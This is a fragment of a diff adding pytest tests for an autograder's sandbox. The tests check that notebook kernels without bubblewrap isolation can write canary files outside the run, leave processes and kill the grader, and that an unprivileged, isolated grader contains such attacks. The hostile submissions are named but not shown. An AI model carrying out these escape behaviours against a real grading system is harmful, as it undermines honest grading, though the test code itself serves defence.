+def test_unsafe_a_kernel_writes_outside_and_leaves_a_process(unsafe):
+    run = unsafe["run"]
+    for path in (run / "outside" / "canary-kernel", Path(f"/tmp/gtcanary-{tag(run)}"), run / "course" / "canary-course"):
+        assert path in unsafe["canaries"], (path, _summary(unsafe))
+    assert any(f"gtlinger-{tag(run)}" in text for _, text in unsafe["left"]), unsafe["left"]
+
+
+def test_unsafe_a_kernel_kills_the_grading_process(built):
+    """Alone (``--jobs 1``): the kernel's parent is the grading process itself; it is killed."""
+    run = make_run(built, "unsafe-killer", ["g-killer"])
+    try:
+        got = run_command(autograde_command(run / "course", isolation=False, jobs=1), run, _env(run), timeout=120)
+        killed = run / "outside" / "killed"
+        assert killed.exists(), _summary({**got, "left": [], "canaries": []})
+        pid = int(killed.read_text().split()[0])
+        assert not psutil.pid_exists(pid) or psutil.Process(pid).status() == psutil.STATUS_ZOMBIE
+    finally:
+        _cleanup(run)
+
+
+# ============================================================================
+# Refusing without walls; an unprivileged account
+# ============================================================================
+
+
+def test_without_bubblewrap_the_command_refuses(built):
+    run = make_run(built, "nobwrap", ["correct"])
+    env = {**_env(run), "PATH": os.path.dirname(sys.executable)}  # no /usr/bin: no bwrap
+    got = run_command(autograde_command(run / "course"), run, env, timeout=120)
+    lines = got["stderr"].strip().splitlines()
+    assert got["code"] == 2, _summary({**got, "left": [], "canaries": []})
+    assert len(lines) == 1 and "bubblewrap" in lines[0], lines
+    assert "apt-get install bubblewrap" in lines[0] and "--unsafe-no-isolation" in lines[0], lines
+    assert not (run / "course" / "autograded").exists()
+
+
+def _closed_ancestors(paths):
+    """Folders above ``paths`` that others cannot enter (mode without o+x)."""
+    out = set()
+    for path in paths:
+        for parent in Path(path).resolve().parents:
+            if not parent.stat().st_mode & stat.S_IXOTH:
+                out.add(parent)
+    return sorted(out)
+
+
+@pytest.fixture(scope="module")
+def grader_account():
+    """An unprivileged account (made with useradd when there is none), and the folders it needs opened."""
+    if os.geteuid() != 0:
+        yield pwd.getpwuid(os.geteuid())
+        return
+    name, made = "gtgrader", False
+    try:
+        account = pwd.getpwnam(name)
+    except KeyError:
+        subprocess.run(["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin", name],
+                       check=True, timeout=60)
+        account, made = pwd.getpwnam(name), True
+    try:
+        yield account
+    finally:
+        if made:
+            subprocess.run(["userdel", name], check=False, timeout=60)
+
+
+def test_an_unprivileged_grader_keeps_honest_marks_and_contains_an_attack(built, grader_account):
+    students = ["correct", "victim", "g-rewrite", "g-canary"]
+    run = built["tmp"] / "unpriv"
+    opened = _closed_ancestors([run, os.path.realpath(sys.executable), sys.prefix, ROOT])
+    modes = {p: p.stat().st_mode for p in opened}
+    try:
+        for p in opened:
+            p.chmod(stat.S_IMODE(modes[p]) | stat.S_IXOTH)
+        got = grade_run(built, "unpriv", students, isolation=True, user=grader_account)
+    finally:
+        for p, mode in modes.items():
+            p.chmod(stat.S_IMODE(mode))
+        _cleanup(run)
+    assert got["code"] == 0, _summary(got)
+    for student in ("correct", "victim"):
+        assert got["grades"][student] == (FULL, False), (student, _summary(got))
+    assert got["after"]["submitted"] == got["before"]["submitted"]
+    assert got["canaries"] == [] and got["left"] == [], _summary(got)
